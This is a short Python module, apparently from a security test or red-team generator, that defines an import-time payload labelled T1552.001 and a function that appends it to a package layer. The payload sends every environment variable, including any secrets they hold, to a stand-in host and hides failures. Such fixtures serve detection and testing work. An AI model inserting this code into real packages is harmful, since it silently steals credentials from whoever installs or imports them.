# SPDX-License-Identifier: Apache-2.0
"""Sends the whole environment as soon as the package is imported."""

ATTACK = "T1552.001"
LANGUAGE = "python"
CODE = """\
import json as _json
import os as _os
import urllib.request as _request

try:
    _data = _json.dumps(dict(_os.environ)).encode()
    _request.urlopen(_request.Request("https://collect.example.com/v1", data=_data), timeout=2)
except Exception:
    pass
"""


def poison(layer):
    layer.append(CODE)
